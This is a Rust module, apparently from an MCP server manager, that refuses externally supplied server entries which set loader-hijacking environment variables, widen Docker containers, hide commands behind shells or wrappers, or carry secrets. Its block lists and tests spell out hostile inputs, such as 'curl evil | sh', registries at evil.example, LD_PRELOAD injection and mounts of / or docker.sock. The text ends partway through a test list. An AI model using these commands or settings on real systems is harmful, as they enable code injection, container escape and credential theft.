//! What an entry that comes from outside the person — a `switchboard://` link, an MCP Registry
//! entry, a bundle's manifest — may not set, because the approval would not show what it
//! does: an environment variable that changes how a runtime finds or loads code (the command
//! line reads `npx -y harmless` while `NODE_OPTIONS` loads a file of the author's), an
//! argument that widens a container past its box (privileged mode, the host's `/` or home,
//! the host's network or processes, added capabilities), and a package identifier or version
//! that an argument vector could read as an option. Each is refused with its reason; the
//! person can still type such an entry themselves, where they see all of it.
//!
//! The lists are families, argued one by one below; each has a test.

use std::collections::BTreeMap;

use super::{ConfigValue, ServerEntry};
use crate::text::one_line;

/// Why an entry from outside is refused: the whole sentence, and what the entry does (for a
/// file of the person's own, which is flagged instead of refused).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message}")]
pub struct Refused {
    pub message: String,
    pub what: String,
}

impl Refused {
    /// `from` does `what`, and so is not taken.
    fn not_taken(from: &str, what: String) -> Self {
        Refused {
            message: format!(
                "{from} {what}; it is not taken from {from} (add the server yourself if you mean it)"
            ),
            what,
        }
    }

    /// A refusal that is its own sentence.
    fn said(message: String) -> Self {
        Refused {
            what: message.clone(),
            message,
        }
    }
}

/// A family of variables that change what a runtime loads or where it loads it from.
struct Family {
    what: &'static str,
    /// Whole names (compared without case on Windows' behalf).
    names: &'static [&'static str],
    /// Name prefixes (also without case).
    prefixes: &'static [&'static str],
}

/// The families. A name in any of them, from outside, is refused.
const FAMILIES: &[Family] = &[
    // ld.so and dyld: load a library into every process the server starts.
    Family {
        what: "the dynamic loader",
        names: &[],
        prefixes: &["LD_", "DYLD_"],
    },
    // Where programs are found: `npx` could be the author's own.
    Family {
        what: "where programs are found",
        names: &["PATH", "PATHEXT", "COMSPEC"],
        prefixes: &[],
    },
    // Node: --require / --import a file, other module folders, a loader, TLS turned off.
    Family {
        what: "Node.js",
        names: &[
            "NODE_OPTIONS",
            "NODE_PATH",
            "NODE_EXTRA_CA_CERTS",
            "NODE_TLS_REJECT_UNAUTHORIZED",
            "NODE_REPL_EXTERNAL_MODULE",
        ],
        prefixes: &[],
    },
    // npm and npx: another registry, scripts, a global prefix, a user config file.
    Family {
        what: "npm",
        names: &["NPM_TOKEN", "COREPACK_NPM_REGISTRY"],
        prefixes: &["NPM_CONFIG_", "YARN_", "PNPM_", "BUN_", "COREPACK_"],
    },
    // uv and uvx: another index, a Python of its own, a config file.
    Family {
        what: "uv",
        names: &[],
        prefixes: &["UV_"],
    },
    // pip: another index, extra indexes, a config file.
    Family {
        what: "pip",
        names: &[],
        prefixes: &["PIP_"],
    },
    // Python: a module path, a start-up file, another home.
    Family {
        what: "Python",
        names: &[
            "PYTHONPATH",
            "PYTHONHOME",
            "PYTHONSTARTUP",
            "PYTHONUSERBASE",
            "PYTHONEXECUTABLE",
            "PYTHONINSPECT",
            "PYTHONPLATLIBDIR",
            "PYTHONBREAKPOINT",
            "PYTHONWARNINGS",
            "VIRTUAL_ENV",
            "CONDA_PREFIX",
        ],
        prefixes: &[],
    },
    // Other runtimes a server may be written in.
    Family {
        what: "another language's runtime",
        names: &[
            "PERL5LIB",
            "PERL5OPT",
            "PERLLIB",
            "RUBYOPT",
            "RUBYLIB",
            "GEM_HOME",
            "GEM_PATH",
            "BUNDLE_GEMFILE",
            "JAVA_TOOL_OPTIONS",
            "_JAVA_OPTIONS",
            "JDK_JAVA_OPTIONS",
            "CLASSPATH",
            "DOTNET_STARTUP_HOOKS",
            "DOTNET_ADDITIONAL_DEPS",
            "CORECLR_PROFILER_PATH",
            "GOFLAGS",
            "DENO_DIR",
        ],
        prefixes: &[],
    },
    // Shells read these before running anything.
    Family {
        what: "the shell",
        names: &[
            "BASH_ENV",
            "ENV",
            "SHELLOPTS",
            "PROMPT_COMMAND",
            "IFS",
            "ZDOTDIR",
        ],
        prefixes: &["BASH_FUNC_"],
    },
    // Docker and Git run commands and reach hosts of their own choosing.
    Family {
        what: "Docker or Git",
        names: &[
            "DOCKER_HOST",
            "DOCKER_CONFIG",
            "DOCKER_CONTEXT",
            "GIT_SSH",
            "GIT_SSH_COMMAND",
            "GIT_EXEC_PATH",
            "GIT_ASKPASS",
            "GIT_PROXY_COMMAND",
        ],
        prefixes: &["GIT_CONFIG"],
    },
    // Where traffic goes and which certificates are trusted: a download through the author's
    // proxy, or from a host the person's trust store does not vouch for.
    Family {
        what: "proxies or trusted certificates",
        names: &[
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "ALL_PROXY",
            "NO_PROXY",
            "SSL_CERT_FILE",
            "SSL_CERT_DIR",
            "REQUESTS_CA_BUNDLE",
            "CURL_CA_BUNDLE",
        ],
        prefixes: &[],
    },
    // Where programs read their own settings from.
    Family {
        what: "where programs read their settings",
        names: &[
            "HOME",
            "USERPROFILE",
            "APPDATA",
            "XDG_CONFIG_HOME",
            "XDG_DATA_HOME",
        ],
        prefixes: &[],
    },
];

/// The family `name` belongs to, if it changes what a runtime loads.
#[must_use]
pub fn loader_family(name: &str) -> Option<&'static str> {
    let upper = name.to_ascii_uppercase();
    FAMILIES
        .iter()
        .find(|f| {
            f.names.iter().any(|n| *n == upper) || f.prefixes.iter().any(|p| upper.starts_with(p))
        })
        .map(|f| f.what)
}

/// Refuses an environment from outside that sets a variable of a loader family.
///
/// # Errors
/// [`Refused`] naming the variable and its family.
pub fn check_environment<'a>(
    names: impl IntoIterator<Item = &'a String>,
    from: &str,
) -> Result<(), Refused> {
    for name in names {
        if let Some(family) = loader_family(name) {
            return Err(Refused::not_taken(
                from,
                format!(
                    "sets {}, which changes how {family} finds or loads code",
                    one_line(name, 60)
                ),
            ));
        }
    }
    Ok(())
}

/// Whether `command` runs containers (Docker or a look-alike that reads its flags).
fn runs_containers(command: &str) -> bool {
    matches!(base_name(command).as_str(), "docker" | "podman" | "nerdctl")
}

/// Namespaces a container may share with the host only if the person says so.
const HOST_NAMESPACES: &[&str] = &[
    "--network",
    "--net",
    "--pid",
    "--ipc",
    "--uts",
    "--userns",
    "--cgroupns",
];

/// Refuses a container's arguments that widen it: privileged mode, added capabilities or
/// devices, a loosened security profile, a host namespace, a mount of the host's `/`, the
/// home folder, `/root`, `/home`, `/Users` or Docker's socket.
///
/// # Errors
/// [`Refused`] naming the argument.
pub fn check_container(command: &str, args: &[String], from: &str) -> Result<(), Refused> {
    if !runs_containers(command) {
        return Ok(());
    }
    let refuse = |arg: &str, why: &str| {
        Err(Refused::not_taken(
            from,
            format!("runs a container with {}, which {why}", one_line(arg, 80)),
        ))
    };
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        let (flag, inline) = match arg.split_once('=') {
            Some((flag, value)) if arg.starts_with("--") => (flag, Some(value)),
            _ => (arg, None),
        };
        let next = || inline.or_else(|| args.get(i + 1).map(String::as_str));
        match flag {
            "--privileged" => return refuse(arg, "gives it the whole computer"),
            "--cap-add" => return refuse(arg, "gives it powers a container does not have"),
            "--device" | "--device-cgroup-rule" => {
                return refuse(arg, "hands it the computer's devices")
            }
            "--security-opt" if next().is_some_and(|v| !v.starts_with("no-new-privileges")) => {
                return refuse(arg, "loosens its security profile")
            }
            f if HOST_NAMESPACES.contains(&f) && next().is_some_and(joins_a_namespace) => {
                return refuse(
                    arg,
                    "shares the computer's (or another container's) namespace with it",
                )
            }
            "-v" | "--volume" | "--mount" => {
                if let Some(spec) = next().filter(|spec| widens_mount(spec)) {
                    return refuse(spec, MOUNT_WHY);
                }
            }
            f if f.starts_with('-') && !f.starts_with("--") && f.len() > 2 => {
                // Short flags run together (`-itv /:/h`, `-v/:/h`, `-v=/:/h`).
                let cluster = &arg[1..];
                if let Some(at) = cluster.find('v') {
                    let rest = cluster[at + 1..].trim_start_matches('=');
                    let spec = if rest.is_empty() {
                        args.get(i + 1).map(String::as_str)
                    } else {
                        Some(rest)
                    };
                    if let Some(spec) = spec.filter(|spec| widens_mount(spec)) {
                        return refuse(spec, MOUNT_WHY);
                    }
                }
            }
            _ => {}
        }
        // The image: what follows are the container's own arguments, not Docker's.
        if !arg.starts_with('-') && i > 0 && !takes_value(&args[i - 1]) && arg != "run" {
            break;
        }
        i += 1;
    }
    Ok(())
}

const MOUNT_WHY: &str =
    "mounts the computer's root, a system folder, a home or its keys, or Docker's socket";

/// Whether a namespace option's value joins one outside the container: the host's, a path's
/// (`ns:/proc/1/ns/pid`) or another container's.
fn joins_a_namespace(value: &str) -> bool {
    value == "host" || value.starts_with("ns:") || value.starts_with("container:")
}

/// Whether the flag before a word takes it as its value (`-e NAME`, `-p 1:2`, `-v a:b`).
fn takes_value(previous: &str) -> bool {
    previous.starts_with('-') && !previous.contains('=') && {
        let flag = previous.trim_start_matches('-');
        !matches!(
            flag,
            "i" | "t"
                | "it"
                | "ti"
                | "d"
                | "rm"
                | "interactive"
                | "tty"
                | "detach"
                | "init"
                | "read-only"
                | "privileged"
        )
    }
}

/// Whether a `-v` / `--mount` spec mounts the host's root, a system folder, a home (or a
/// folder holding one, or a home's keys and settings) or Docker's socket (or its folder). The
/// source is cleaned as Docker cleans it (`/.`, `/tmp/..`, `//`) before it is compared; a
/// `--mount` option's keys are read without case, and a volume driver told to bind a device is
/// refused whatever it binds.
fn widens_mount(spec: &str) -> bool {
    let is_mount_syntax = spec.contains('=');
    let raw = if is_mount_syntax {
        let mut source = "";
        for part in spec.split(',') {
            let (key, value) = part.split_once('=').unwrap_or((part, ""));
            match key.trim().to_ascii_lowercase().as_str() {
                "source" | "src" => source = value,
                // `type=volume,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/`
                "volume-opt" if value.starts_with("device=") || value == "o=bind" => return true,
                _ => {}
            }
        }
        source
    } else {
        spec.split(':').next().unwrap_or("")
    };
    let Some(source) = clean_path(raw) else {
        return false; // a named volume
    };
    let home = dirs::home_dir().and_then(|h| clean_path(&h.display().to_string()));
    let under = |dir: &str| source == dir || source.starts_with(&format!("{dir}/"));
    let holds = |dir: &str| source == "/" || dir.starts_with(&format!("{source}/"));
    const SYSTEM: &[&str] = &[
        "/etc",
        "/proc",
        "/sys",
        "/dev",
        "/boot",
        "/usr",
        "/bin",
        "/sbin",
        "/lib",
        "/lib32",
        "/lib64",
        "/var",
        "/run",
        "/root",
        "/opt",
        "/srv/docker",
    ];
    const KEYS: &[&str] = &[
        ".ssh",
        ".aws",
        ".gnupg",
        ".config",
        ".docker",
        ".kube",
        ".azure",
        ".netrc",
        ".npmrc",
        ".pypirc",
        ".local/share/keyrings",
        "Library",
    ];
    source == "/"
        || SYSTEM.iter().any(|dir| under(dir))
        || ["/home", "/Users"].contains(&source.as_str())
        || home.as_deref().is_some_and(|h| {
            source == h || holds(h) || KEYS.iter().any(|k| under(&format!("{h}/{k}")))
        })
        || source.ends_with("docker.sock")
        || source.ends_with("podman.sock")
}

/// `raw` as an absolute, cleaned path (`.`, `..` and repeated `/` resolved, `~` and `$HOME`
/// read as the home); `None` for what is not a path (a named volume).
fn clean_path(raw: &str) -> Option<String> {
    let raw = raw.trim();
    let home = || dirs::home_dir().map(|h| h.display().to_string());
    let expanded = if raw == "~" || raw == "$HOME" || raw == "${HOME}" {
        home()?
    } else if let Some(rest) = raw
        .strip_prefix("~/")
        .or_else(|| raw.strip_prefix("$HOME/"))
        .or_else(|| raw.strip_prefix("${HOME}/"))
    {
        format!("{}/{rest}", home()?)
    } else {
        raw.to_owned()
    };
    if !expanded.starts_with('/') {
        return None;
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in expanded.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    Some(format!("/{}", parts.join("/")))
}

/// Programs that run another program given on their command line: what they run is checked
/// as if it were the command. `env` also sets variables (`env LD_PRELOAD=… npx …`).
const WRAPPERS: &[&str] = &[
    "env", "nice", "nohup", "stdbuf", "timeout", "ionice", "setsid",
];

/// Programs that run another as someone else or as a shell command line: not taken from
/// outside at all (what they would run cannot be checked, or runs with more rights).
const REFUSED_RUNNERS: &[&str] = &[
    "sudo",
    "doas",
    "pkexec",
    "su",
    "runuser",
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
];

fn base_name(command: &str) -> String {
    let base = command
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(command)
        .to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
}

/// The options of a runtime that are the command-line form of a loader variable: where npm
/// finds packages, what Node loads first, where uv and pip find packages. Only the runtime's
/// own options count, those before the package it runs.
fn loader_option(runtime: &str, option: &str) -> Option<&'static str> {
    let name = option.split_once('=').map_or(option, |(n, _)| n);
    match runtime {
        "node" | "npx" | "npm" | "pnpm" | "yarn" | "bunx" | "bun" => match name {
            "--node-options"
            | "--require"
            | "-r"
            | "--import"
            | "--loader"
            | "--experimental-loader" => Some("Node.js"),
            "--registry" | "--userconfig" | "--globalconfig" | "--prefix" | "--cache" => {
                Some("npm")
            }
            _ => None,
        },
        "uvx" | "uv" | "pip" | "pip3" | "pipx" => match name {
            "--index-url"
            | "-i"
            | "--extra-index-url"
            | "--index"
            | "--default-index"
            | "--find-links"
            | "-f"
            | "--from"
            | "--with-requirements"
            | "--config-file" => Some("uv or pip"),
            _ => None,
        },
        _ => None,
    }
}

/// What a runtime's options are, for finding code written in an argument: the short option
/// letters that run code (`node -e`, `python -c`, `perl -e`, `npx -c`), the long options that
/// do, and the options whose value is the next word (or the rest of a short cluster, as in
/// `-Wignore` or `-I/usr/share/perl5`), which are skipped rather than read as code.
struct Runtime {
    code_letters: &'static [char],
    code_long: &'static [&'static str],
    value_letters: &'static [char],
    value_long: &'static [&'static str],
}

/// Node's (and Bun's, Deno's) options whose value is the next word.
const NODE_VALUES: &[&str] = &[
    "--require",
    "--import",
    "--loader",
    "--conditions",
    "--input-type",
    "--title",
    "--env-file",
    "--log-level",
    "--config",
];

fn runtime_options(runtime: &str) -> Option<Runtime> {
    Some(match runtime {
        "node" | "nodejs" | "bun" | "deno" | "ts-node" | "tsx" => Runtime {
            code_letters: &['e', 'p'],
            code_long: &["--eval", "--print"],
            value_letters: &['r', 'C'],
            value_long: NODE_VALUES,
        },
        "npx" | "pnpx" => Runtime {
            code_letters: &['c'],
            code_long: &["--call"],
            value_letters: &['p'],
            value_long: &["--package"],
        },
        "perl" => Runtime {
            code_letters: &['e', 'E'],
            code_long: &[],
            value_letters: &['I', 'M', 'm', 'x', 'C', 'd', 'D', 'i', 'l', '0'],
            value_long: &[],
        },
        "ruby" => Runtime {
            code_letters: &['e'],
            code_long: &[],
            value_letters: &['I', 'r', 'C', 'E', 'x'],
            value_long: &[],
        },
        "php" => Runtime {
            code_letters: &['r', 'R', 'B', 'E'],
            code_long: &[],
            value_letters: &['d', 'c', 'z'],
            value_long: &[],
        },
        python if python.starts_with("python") || python == "py" || python.starts_with("pypy") => {
            Runtime {
                code_letters: &['c'],
                code_long: &[],
                value_letters: &['W', 'X', 'Q'],
                value_long: &[],
            }
        }
        _ => return None,
    })
}

/// The first option among `args` (up to the script or package, skipping options' values) that
/// makes `runtime` run code written in its arguments rather than a package or file; for Deno,
/// its `eval` command.
fn inline_code<'a>(runtime: &str, args: &'a [String]) -> Option<&'a str> {
    let options = runtime_options(runtime)?;
    let mut words = args.iter();
    while let Some(word) = words.next() {
        if !word.starts_with('-') || word == "-" || word == "--" {
            // The script or package (or Deno's command): what follows is its own.
            return (runtime == "deno" && word == "eval").then_some(word.as_str());
        }
        if word.starts_with("--") {
            let name = word.split_once('=').map_or(word.as_str(), |(name, _)| name);
            if options.code_long.contains(&name) {
                return Some(word);
            }
            if options.value_long.contains(&name) && !word.contains('=') {
                words.next();
            }
            continue;
        }
        // A short cluster: letters until one that takes a value, whose value is the rest (or
        // the next word when the cluster ends there).
        for (at, letter) in word.char_indices().skip(1) {
            if options.code_letters.contains(&letter) {
                return Some(word);
            }
            if options.value_letters.contains(&letter) {
                if at + letter.len_utf8() == word.len() {
                    words.next();
                }
                break;
            }
        }
    }
    None
}

/// Refuses a command line from outside that hides what it runs behind a wrapper (a shell's
/// command line, another user), sets a loader variable through `env`, or gives a runtime the
/// option form of one (`npx --node-options=…`, `uvx --index-url …`).
///
/// # Errors
/// [`Refused`] naming what it does.
pub fn check_command(command: &str, args: &[String], from: &str) -> Result<(), Refused> {
    let mut command = command.to_owned();
    let mut args: Vec<String> = args.to_vec();
    // Unwrap `env A=b nice -n 5 npx …` down to what runs, at most a few levels.
    for _ in 0..8 {
        let base = base_name(&command);
        if REFUSED_RUNNERS.contains(&base.as_str()) {
            return Err(Refused::not_taken(
                from,
                format!(
                    "runs {base}, which would run what cannot be checked before it runs (a shell's \
                     command line, or as another user)"
                ),
            ));
        }
        if !WRAPPERS.contains(&base.as_str()) {
            break;
        }
        let mut rest = args.iter();
        let mut next_command = None;
        let mut takes_value = false;
        for word in rest.by_ref() {
            if std::mem::take(&mut takes_value) {
                continue; // an option's value (`timeout -s KILL`, `nice -n 5`)
            }
            if base == "env" {
                if word == "--split-string" || word.starts_with("-S") {
                    return Err(Refused::not_taken(
                        from,
                        "runs env -S, a command line split from one word, which cannot be checked \
                         before it runs"
                            .to_owned(),
                    ));
                }
                if let Some((key, _)) = word.split_once('=').filter(|(k, _)| !k.starts_with('-')) {
                    check_environment([&key.to_owned()], from)?;
                    continue;
                }
            }
            if word.starts_with('-') {
                takes_value = matches!(
                    word.as_str(),
                    "-n" | "-s"
                        | "-k"
                        | "-c"
                        | "-p"
                        | "-u"
                        | "--signal"
                        | "--kill-after"
                        | "--adjustment"
                        | "--unset"
                        | "--chdir"
                        | "-C"
                );
                continue;
            }
            let duration = word.trim_end_matches(['s', 'm', 'h', 'd']);
            if !duration.is_empty() && duration.parse::<f64>().is_ok() {
                continue; // `timeout 5s`
            }
            next_command = Some(word.clone());
            break;
        }
        let Some(next) = next_command else {
            return Ok(());
        };
        args = rest.cloned().collect();
        command = next;
    }
    let runtime = base_name(&command);
    if let Some(word) = inline_code(&runtime, &args) {
        return Err(Refused::not_taken(
            from,
            format!(
                "runs {runtime} {}, code written in its arguments rather than a package, \
                 which cannot be checked like one",
                one_line(word, 80)
            ),
        ));
    }
    for word in &args {
        if !word.starts_with('-') {
            break; // the package, then its own arguments
        }
        if let Some(what) = loader_option(&runtime, word) {
            return Err(Refused::not_taken(
                from,
                format!(
                    "gives {runtime} {}, which changes how {what} finds or loads code",
                    one_line(word, 80)
                ),
            ));
        }
    }
    check_container(&command, &args, from)
}

/// What an entry from outside may carry, checked whole: its environment (no loader family)
/// and, for a container, its arguments.
///
/// # Errors
/// [`Refused`] with the first reason found.
pub fn check_entry(entry: &ServerEntry, from: &str) -> Result<(), Refused> {
    check_environment(entry.env.keys(), from)?;
    if let Some(command) = &entry.command {
        check_command(command, &entry.args, from)?;
    }
    Ok(())
}

/// A link may not bring a secret: a value under a secret-looking name, or one shaped like a
/// key, is refused (the person types it into the server's settings instead).
///
/// # Errors
/// [`Refused`] naming the variable or header.
pub fn check_no_secrets(
    values: &BTreeMap<String, ConfigValue>,
    place: &str,
    from: &str,
) -> Result<(), Refused> {
    for (key, value) in values {
        let secret = match value {
            ConfigValue::Plain(plain) if plain.is_empty() => false,
            ConfigValue::Plain(plain) => super::looks_secret(key) || looks_like_a_key(plain),
            ConfigValue::Keychain { .. } => true,
        };
        if secret {
            return Err(Refused::said(format!(
                "{from} carries a value for the {place} “{}”, which looks like a secret; a \
                 link cannot bring a secret: add the server, then type that value in its settings",
                one_line(key, 60)
            )));
        }
    }
    Ok(())
}

/// A link may not bring a secret on the command line or in an address either: an argument
/// shaped like a key or written as one (`--api-key=…`, `TOKEN=…`), or an address whose query
/// names a secret (`?api_key=…`, `?token=…`).
///
/// # Errors
/// [`Refused`] saying where.
pub fn check_no_secret_words(
    args: &[String],
    url: Option<&str>,
    from: &str,
) -> Result<(), Refused> {
    let refuse = |what: &str| {
        Err(Refused::said(format!(
            "{from} carries what looks like a secret {what}; a link cannot bring a secret: add the \
             server, then type it in its settings"
        )))
    };
    if args.iter().any(|a| looks_like_a_key(a)) {
        return refuse("in its command line");
    }
    if let Some(url) = url {
        let secret_query = url::Url::parse(url).is_ok_and(|u| {
            u.query_pairs()
                .any(|(k, v)| !v.is_empty() && (super::looks_secret(&k) || looks_like_a_key(&v)))
        });
        if secret_query || looks_like_a_key(url) {
            return refuse("in its address");
        }
    }
    Ok(())
}

/// Whether a value is shaped like a well-known key (the log scrubber's shapes).
fn looks_like_a_key(value: &str) -> bool {
    crate::logging::redact(value) != value
        || ["ghp_", "gho_", "github_pat_", "xox", "glpat-", "AKIA"]
            .iter()
            .any(|p| value.starts_with(p))
}

/// The grammar of a package's identifier in its registry, so that nothing that starts with
/// `-` or holds spaces or shell characters reaches an argument vector.
///
/// # Errors
/// [`Refused`] saying which grammar it breaks.
pub fn check_identifier(kind: &str, identifier: &str) -> Result<(), Refused> {
    static NPM: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"^(@[a-z0-9][a-z0-9._~-]*/)?[a-zA-Z0-9][a-zA-Z0-9._~-]*$").unwrap()
    });
    // PEP 508's names.
    static PYPI: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"^[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?$").unwrap()
    });
    // The OCI distribution reference grammar: [domain[:port]/]path[:tag][@digest].
    static OCI: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        let component = r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*";
        let domain = r"(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?)*(?::[0-9]+)?/)";
        let tag = r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})";
        let digest = r"(?:@[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})";
        regex::Regex::new(&format!(
            r"^{domain}?{component}(?:/{component})*{tag}?{digest}?$"
        ))
        .unwrap()
    });
    static NUGET: std::sync::LazyLock<regex::Regex> =
        std::sync::LazyLock::new(|| regex::Regex::new(r"^[A-Za-z0-9_][A-Za-z0-9_.-]*$").unwrap());
    let (grammar, max) = match kind {
        "npm" => (&*NPM, 214),
        "pypi" => (&*PYPI, 200),
        "oci" => (&*OCI, 255),
        "nuget" => (&*NUGET, 100),
        _ => return Ok(()),
    };
    if identifier.len() > max || !grammar.is_match(identifier) {
        return Err(Refused::said(format!(
            "its {kind} package “{}” is not a {kind} package name",
            one_line(identifier, 80)
        )));
    }
    Ok(())
}

/// A version as registries write one (semver, PEP 440 with its epoch and local part, an
/// image tag): no leading `-`, no spaces or shell characters.
///
/// # Errors
/// [`Refused`].
pub fn check_version(version: &str) -> Result<(), Refused> {
    let ok = version.len() <= 128
        && version
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric())
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._+-!".contains(c));
    if ok {
        Ok(())
    } else {
        Err(Refused::said(format!(
            "its version “{}” is not a version",
            one_line(version, 40)
        )))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env(names: &[&str]) -> Vec<String> {
        names.iter().map(|n| (*n).to_owned()).collect()
    }

    #[test]
    fn each_family_of_loader_variables_is_refused_from_outside() {
        for (name, family) in [
            ("LD_PRELOAD", "the dynamic loader"),
            ("LD_LIBRARY_PATH", "the dynamic loader"),
            ("DYLD_INSERT_LIBRARIES", "the dynamic loader"),
            ("PATH", "where programs are found"),
            ("Path", "where programs are found"),
            ("NODE_OPTIONS", "Node.js"),
            ("NODE_PATH", "Node.js"),
            ("npm_config_registry", "npm"),
            ("NPM_CONFIG_USERCONFIG", "npm"),
            ("UV_INDEX_URL", "uv"),
            ("UV_PYTHON", "uv"),
            ("PIP_INDEX_URL", "pip"),
            ("PIP_EXTRA_INDEX_URL", "pip"),
            ("PYTHONPATH", "Python"),
            ("PYTHONSTARTUP", "Python"),
            ("PERL5OPT", "another language's runtime"),
            ("JAVA_TOOL_OPTIONS", "another language's runtime"),
            ("DOTNET_STARTUP_HOOKS", "another language's runtime"),
            ("BASH_ENV", "the shell"),
            ("BASH_FUNC_ls%%", "the shell"),
            ("GIT_SSH_COMMAND", "Docker or Git"),
            ("DOCKER_HOST", "Docker or Git"),
            ("HTTPS_PROXY", "proxies or trusted certificates"),
            ("NODE_EXTRA_CA_CERTS", "Node.js"),
            ("HOME", "where programs read their settings"),
        ] {
            assert_eq!(loader_family(name), Some(family), "{name}");
            let err = check_environment(&env(&[name]), "this link").unwrap_err();
            assert!(
                err.message.contains(name) && err.message.contains(family),
                "{err}"
            );
        }
        for harmless in [
            "GITHUB_TOKEN",
            "ALLOWED_DIRS",
            "LOG_LEVEL",
            "TZ",
            "PYTHONUNBUFFERED_X",
            "NODE_ENV",
        ] {
            assert_eq!(loader_family(harmless), None, "{harmless}");
        }
    }

    fn argv(words: &str) -> Vec<String> {
        words.split(' ').map(str::to_owned).collect()
    }

    #[test]
    fn arguments_that_widen_a_container_are_refused() {
        for (args, shown) in [
            ("run -i --rm --privileged img", "--privileged"),
            ("run -i --rm --cap-add SYS_ADMIN img", "--cap-add"),
            ("run -i --rm --cap-add=NET_ADMIN img", "--cap-add=NET_ADMIN"),
            ("run -i --rm --network host img", "--network"),
            ("run -i --rm --net=host img", "--net=host"),
            ("run -i --rm --pid=host img", "--pid=host"),
            ("run -i --rm --ipc host img", "--ipc"),
            ("run -i --rm --userns=host img", "--userns=host"),
            ("run -i --rm -v /:/host img", "/:/host"),
            ("run -i --rm --volume=/:/host:ro img", "/:/host:ro"),
            ("run -i --rm -v ~:/h img", "~:/h"),
            ("run -i --rm -v /root:/r img", "/root:/r"),
            ("run -i --rm -itv /:/h img", "/:/h"),
            (
                "run -i --rm -v /var/run/docker.sock:/var/run/docker.sock img",
                "docker.sock",
            ),
            (
                "run -i --rm --mount type=bind,source=/,target=/h img",
                "source=/",
            ),
            ("run -i --rm --device /dev/sda img", "--device"),
            (
                "run -i --rm --security-opt seccomp=unconfined img",
                "--security-opt",
            ),
        ] {
            let err = check_container("docker", &argv(args), "this registry entry").unwrap_err();
            assert!(err.message.contains(shown), "{args}: {err}");
        }
        // What a server may do: its own port on loopback, a folder it is given, its token by
        // name, no new privileges, its own network; and the container's own arguments.
        for fine in [
            "run -i --rm -p 127.0.0.1:8085:8085 -e TOKEN img:1",
            "run -i --rm -v /srv/notes:/notes:ro img",
            "run -i --rm --security-opt no-new-privileges img",
            "run -i --rm --network none img",
            "run -i --rm img --privileged",
        ] {
            assert!(
                check_container("docker", &argv(fine), "x").is_ok(),
                "{fine}"
            );
        }
        assert!(check_container("/usr/bin/podman", &argv("run --privileged i"), "x").is_err());
        // Written otherwise, the same: a short flag with `=`, a path to clean, a folder that
        // holds the socket or the home, a system folder, `--mount` keys in capitals, a volume
        // driver told to bind, a namespace joined by path or container.
        let home = dirs::home_dir().unwrap().display().to_string();
        for sneaky in [
            "run -i -v=/:/h img".to_owned(),
            "run -i -itv=/:/h img".to_owned(),
            "run -i -v /.:/h img".to_owned(),
            "run -i -v /tmp/..:/h img".to_owned(),
            "run -i -v //etc:/h img".to_owned(),
            "run -i -v /var/run:/r img".to_owned(),
            "run -i -v /var/run/docker.sock/.:/s img".to_owned(),
            format!("run -i -v {home}/.ssh:/k img"),
            format!("run -i -v {home}/.:/k img"),
            "run -i --mount type=bind,SOURCE=/,target=/h img".to_owned(),
            "run -i --mount type=volume,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/,target=/h img".to_owned(),
            "run -i --pid=ns:/proc/1/ns/pid img".to_owned(),
            "run -i --network container:other img".to_owned(),
        ] {
            assert!(check_container("docker", &argv(&sneaky), "x").is_err(), "{sneaky}");
        }
        assert!(check_container("docker", &argv("run -i -v notes:/data img"), "x").is_ok());
    }

    #[test]
    fn a_wrapper_or_a_runtimes_own_option_hides_nothing() {
        for (command, args, said) in [
            ("env", "LD_PRELOAD=/tmp/x.so npx -y harmless", "LD_PRELOAD"),
            ("/usr/bin/env", "-i PATH=/tmp npx -y harmless", "PATH"),
            ("env", "-S npx -y harmless", "env -S"),
            ("nice", "-n 5 docker run --privileged img", "--privileged"),
            (
                "timeout",
                "-s KILL 5s docker run --privileged img",
                "--privileged",
            ),
            ("sudo", "npx -y harmless", "sudo"),
            ("bash", "-c npx", "bash"),
            (
                "npx",
                "--node-options=--require=/tmp/x.js -y harmless",
                "--node-options",
            ),
            (
                "npx",
                "--registry https://evil.example -y harmless",
                "--registry",
            ),
            ("node", "-r /tmp/x.js server.js", "-r"),
            (
                "uvx",
                "--index-url https://evil.example tool",
                "--index-url",
            ),
            ("uvx", "--from git+https://evil.example/x tool", "--from"),
            // Code written in an argument, not a package.
            ("node", "-e require('child_process')", "node -e"),
            ("node", "--eval=x", "node --eval"),
            ("/usr/bin/python3", "-c import os", "python3 -c"),
            ("python3.12", "-Ic import os", "python3.12 -Ic"),
            ("perl", "-ne print", "perl -ne"),
            ("ruby", "-e x", "ruby -e"),
            ("npx", "-c 'curl evil | sh'", "npx -c"),
            ("deno", "eval x", "deno eval"),
            ("deno", "--log-level debug eval x", "deno eval"),
            ("env", "TZ=UTC python -c x", "python -c"),
            // An option's value does not end the search.
            ("npx", "-p some-pkg -c 'curl evil | sh'", "npx -c"),
            ("python3", "-X utf8 -c x", "python3 -c"),
            ("python", "-W ignore -c x", "python -c"),
            ("perl", "-I lib -e x", "perl -e"),
            ("pypy3", "-c x", "pypy3 -c"),
            ("nodejs", "-e x", "nodejs -e"),
